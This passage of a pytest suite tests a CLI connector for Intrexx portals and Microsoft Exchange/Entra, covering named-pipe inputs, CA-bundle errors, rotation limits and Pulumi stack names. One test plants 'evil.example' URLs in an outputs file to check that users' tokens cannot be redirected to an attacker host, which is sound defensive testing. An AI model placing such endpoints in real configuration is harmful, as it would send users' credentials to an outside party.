        portal["adopt"] = {**ADOPTED, "handMadeSecretKeyIds": [value]}
    else:
        portal["adopt"] = {**ADOPTED, where: value}
    with pytest.raises(ConfigError) as raised:
        parse_stack_config({"portals": json.dumps([portal]), **raw}, "dev", TODAY, "public")
    assert where in str(raised.value) and "0000-0000" not in str(raised.value).split(", got")[0]


# 16. A named pipe where a file was expected: read as empty at once, never waited on ---------------------------------


@pytest.mark.parametrize("what", ["--outputs", "--before", "--compare", "om.cfg", "stack file"])
def test_a_fifo_without_a_writer_is_an_answer_not_a_wait(capsys, monkeypatch, tmp_path, document, what):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    if what == "om.cfg":
        cfg = tmp_path / "portal" / "internal" / "cfg"
        cfg.mkdir(parents=True)
        os.mkfifo(cfg / "om.cfg")
        argv = [
            "apply",
            "--outputs",
            write(tmp_path, document),
            "--portal",
            "hr",
            "--portal-dir",
            str(tmp_path / "portal"),
        ]
    elif what == "stack file":
        (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
        os.mkfifo(tmp_path / "Pulumi.fifo.yaml")
        monkeypatch.chdir(tmp_path)
        argv = ["plan", "--stack", "fifo"]
    elif what == "--compare":
        monkeypatch.chdir(ROOT)
        argv = ["plan", "--stack", "dev", "--compare", str(fifo)]
    elif what == "--before":
        argv = ["rotation-notice", "--outputs", write(tmp_path, document), "--before", str(fifo)]
    else:
        argv = ["status", "--outputs", str(fifo)]
    code, out, err = run_main(capsys, *argv)
    clean(code, out, err)
    assert code in (0, 1, 2)


def test_outputs_through_a_pipe_with_a_writer_are_read_whole(tmp_path, document):
    env = {**os.environ, "INTREXX_EXCHANGE_TODAY": TODAY.isoformat()}
    script = f"{sys.executable} -m intrexx_connector status --outputs <(sleep 0.3; cat {write(tmp_path, document)})"
    result = subprocess.run(["bash", "-c", script], capture_output=True, cwd=ROOT, env=env, timeout=60, check=False)
    assert result.returncode in (0, 1) and b"portal(s) due within" in result.stdout, result.stderr


# 17. This machine's TLS setup is named, not waited on -------------------------------------------------------------


@pytest.mark.parametrize("bundle", ["/nonexistent/ca.pem"])
def test_an_unreadable_ca_bundle_fails_verify_at_once_naming_the_variables(
    capsys, monkeypatch, tmp_path, document, bundle
):
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", bundle)
    monkeypatch.delenv("CURL_CA_BUNDLE", raising=False)
    with socket.socket() as probe:  # a loopback port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    argv = ["verify", "--outputs", write(tmp_path, document), "--portal", "hr", "--authority-host"]
    code, out, err = run_main(capsys, *argv, f"https://127.0.0.1:{port}", "--timeout", "60")
    clean(code, out, err, document["clientSecrets"].values())
    assert code == 1 and "REQUESTS_CA_BUNDLE, CURL_CA_BUNDLE or SSL_CERT_FILE" in out, (out, err)
    assert "gave up after 3 tries" in out


@pytest.mark.parametrize("days", [0, -1, 6, 366, 2**63])
def test_a_rotation_period_no_program_wrote_is_refused(capsys, tmp_path, document, days):
    doc = copy.deepcopy(document)
    doc["portals"]["hr"]["secretRotationDays"] = days
    refused(*run_main(capsys, "status", "--outputs", write(tmp_path, doc)), "portals.hr.secretRotationDays", "7 to 365")


@pytest.mark.parametrize(
    "portal, field, value",
    [
        ("hr", "ewsUrl", "https://evil.example/EWS/Exchange.asmx"),
        ("ops", "resource", "https://evil.example"),
    ],
)
def test_users_tokens_cannot_be_sent_elsewhere_by_an_edited_outputs_file(
    capsys, tmp_path, document, portal, field, value
):
    doc = copy.deepcopy(document)
    doc["portals"][portal][field] = value
    path = write(tmp_path, doc)
    refused(*run_main(capsys, "render", "--outputs", path, "--out", str(tmp_path / "b")), f"portals.{portal}.{field}")


def test_more_redirect_uris_than_entra_allows_is_a_config_error_not_a_refusal_at_deploy(project, capsys):
    paths = ", ".join(f"p{i}" for i in range(300))
    portal = f"{{name: hr, connector: m365, baseUrl: 'https://a.example', redirectPaths: [{paths}]}}"
    line = refused(*plan(project, capsys, stack_text(portals=f"[{portal}]")), "portals[0].redirectPaths", "at most 256")
    assert json.loads(line)["error"] == "ConfigError"


@pytest.mark.parametrize("stack", ["dev", "intrexx-exchange/dev", "myorg/intrexx-exchange/dev"])
def test_a_fully_qualified_stack_name_reads_the_stacks_own_file(capsys, monkeypatch, stack):
    monkeypatch.chdir(ROOT)
    code, out, err = run_main(capsys, "plan", "--stack", stack)
    assert code == 0 and "intranet" in out, err


def test_a_fully_qualified_stack_name_defaults_the_environment_as_pulumi_does(project, capsys):
    (project / "Pulumi.attack.yaml").write_text(stack_text())
    code, out, err = run_main(capsys, "plan", "--stack", "myorg/intrexx-exchange/attack", "--json")
    assert code == 0 and json.loads(out)["portals"]["hr"]["displayName"] == "Intrexx hr (attack)", err
